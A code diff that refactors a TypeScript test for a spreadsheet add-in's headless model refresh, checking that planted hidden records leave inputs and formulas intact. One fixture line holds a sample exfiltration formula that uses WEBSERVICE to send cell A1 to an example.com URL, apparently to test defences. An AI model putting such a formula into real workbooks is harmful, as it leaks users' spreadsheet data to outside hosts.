@@ -1,21 +1,17 @@
 /** A refresh without a screen of a model that somebody filled with hidden records: inputs and formulas stay. */
-import { createSystemClock } from "../../src/client/clock";
 import { toNameFormulas } from "../../src/features/pins/sheet/persisted-string";
 import { fingerprint, namesOfPin } from "../../src/features/pins/sheet/pin-records";
 import { splitFormula } from "../../src/host/formula-references";
 import { openModelFile } from "../../src/model-file/model-file";
 import { refreshModel } from "../../src/refresh-cli/model-refresh";
-import { createSharedNetwork } from "../../src/refresh-cli/shared-network";
-import { engineFunctionNames } from "../../src/workbench/engine/function-class";
-import { readAddinFiles } from "../../src/workbench/headless/built-addin";
 import { makeFile, textsOf } from "../model-file/workbook-bytes";
-import { type AddinServer, builtAddin, openAddin, startAddinServer } from "./built-addin";
+import { type AddinServer, startAddinServer } from "./built-addin";
+import { refreshParts } from "./refresh-parts";
 
 let server: AddinServer;
 beforeAll(async () => (server = await startAddinServer()));
 afterAll(() => server.close());
 
-const clock = createSystemClock();
 const escaped = (text: string): string => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;");
 const relations = "http://schemas.openxmlformats.org/package/2006/relationships";
 const evil = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';
@@ -93,24 +89,12 @@ test.each(["keep", "bring back", "hand over"])(
           '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{00000000-0000-4000-8000-000000000001}"><ds:schemaRefs/></ds:datastoreItem>',
       },
     });
-    const { functions, namespace } = readAddinFiles(builtAddin);
     const asked: string[] = [];
     const watching: typeof fetch = (input, init) => {
       asked.push(String(input instanceof Request ? input.url : input));
       return fetch(input, init);
     };
-    const { bytes: refreshed, report } = await refreshModel(bytes, {
-      openWorkbook: (given) => openAddin(server, given),
-      functions: {
-        namespace: namespace ?? "",
-        names: functions.functions.map(({ name }) => name),
-        engine: engineFunctionNames(),
-      },
-      fetch: createSharedNetwork({ connection: null, fetch: watching, clock }).forWorkbook().fetch,
-      clock,
-      scope: { kind: "workbook" },
-      values: "verified",
-    });
+    const { bytes: refreshed, report } = await refreshModel(bytes, refreshParts(server, { fetch: watching }));
     expect([report.status, report.problem]).toEqual(["refreshed", null]);
     const { sheets } = await openModelFile(refreshed ?? new Uint8Array(), () => false);
     const cells = sheets[0]?.cells.map(({ row, column, formula, value }) => [row, column, formula ?? null, value]);
